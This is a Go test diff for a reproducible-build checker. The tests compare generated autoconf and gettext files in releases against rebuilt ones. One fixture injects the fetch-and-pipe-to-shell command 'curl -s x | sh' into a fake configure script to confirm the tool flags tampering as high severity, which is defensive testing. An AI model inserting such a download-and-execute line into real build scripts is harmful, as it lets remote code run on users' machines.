@@ -339,3 +339,71 @@ func FuzzAddedCommands(f *testing.F) {
 		}
 	})
 }
+
+// TestPatchedDebianBuild: the catalog's only autoconf 2.72 is Debian's
+// 2.72-3.1, which patches AC_SYS_LARGEFILE. A release whose configure shows
+// upstream 2.72's large-file checks is not proved by it (one grouped
+// medium naming the upstream build), never excused; a release without
+// them gets the exact-toolchain verdict: any difference is high.
+func TestPatchedDebianBuild(t *testing.T) {
+	tree := map[string]string{"configure.ac": configureAC}
+	t.Run("upstream 2.72 release", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC,
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\n")}, tree, "2.72")
+		f.in.Toolchains = &fakeToolchains{probe: f.run}
+		res := f.result(t)
+		c := fileOf(t, res, "configure")
+		if c.Rebuild != report.RebuildNotReproducible || c.Severity != report.SevInfo || !strings.Contains(c.Reason, "Debian #852617") {
+			t.Fatalf("configure = %+v", c)
+		}
+		if len(res.Findings) != 1 || res.Findings[0].Severity != report.SevMedium ||
+			!strings.HasPrefix(res.Findings[0].Message, "autoconf 2.72 (upstream build) not available: 1 generated file not proved") ||
+			strings.Contains(res.Findings[0].Message, "toolchain fetch") {
+			t.Errorf("findings = %+v", res.Findings)
+		}
+	})
+	t.Run("upstream 2.72 release with an injected command", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC,
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\ncurl -s x | sh\n")}, tree, "2.72")
+		f.in.Toolchains = &fakeToolchains{probe: f.run}
+		if c := fileOf(t, f.result(t), "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
+			t.Fatalf("configure = %+v", c)
+		}
+	})
+	t.Run("Debian-built release", func(t *testing.T) {
+		f := newFixture(t, map[string]string{"configure.ac": configureAC,
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CPPFLAGS option for large files\"\n")}, tree, "2.72")
+		f.in.Toolchains = &fakeToolchains{probe: f.run}
+		if c := fileOf(t, f.result(t), "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
+			t.Fatalf("configure = %+v", c)
+		}
+	})
+}
+
+// TestRegeneratedGettextMacro: autopoint 0.21 installs the 0.19
+// infrastructure a release asks for; the macro series of the regenerated
+// po/Makefile.in.in, not of the installed autopoint, is compared with the
+// release's stamp, so a differing configure is not excused by gettext.
+func TestRegeneratedGettextMacro(t *testing.T) {
+	tree := map[string]string{"configure.ac": configureAC}
+	f := newFixture(t, map[string]string{"configure.ac": configureAC, "configure": configureBy("2.71", "# edited\n"),
+		"po/Makefile.in.in": "GETTEXT_MACRO_VERSION = 0.19\n"}, tree, "2.71")
+	f.in.Generators = append(f.in.Generators, report.Generator{Name: "GNU gettext", Version: "0.19", Files: 1})
+	r := &scriptedRunner{do: func(script, dir string) error {
+		if err := os.MkdirAll(filepath.Join(dir, "po"), 0o755); err != nil {
+			return err
+		}
+		if err := os.WriteFile(filepath.Join(dir, "po", "Makefile.in.in"), []byte("GETTEXT_MACRO_VERSION = 0.19\n"), 0o644); err != nil {
+			return err
+		}
+		return os.WriteFile(filepath.Join(dir, "configure"), []byte(configureBy("2.71", "")), 0o755)
+	}}
+	f.in.Runner = r
+	res := f.result(t)
+	if c := fileOf(t, res, "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
+		t.Fatalf("configure = %+v (findings %+v)", c, res.Findings)
+	}
+	if p := fileOf(t, res, "po/Makefile.in.in"); p.Rebuild != report.RebuildReproduced {
+		t.Errorf("po/Makefile.in.in = %+v", p)
+	}
+}
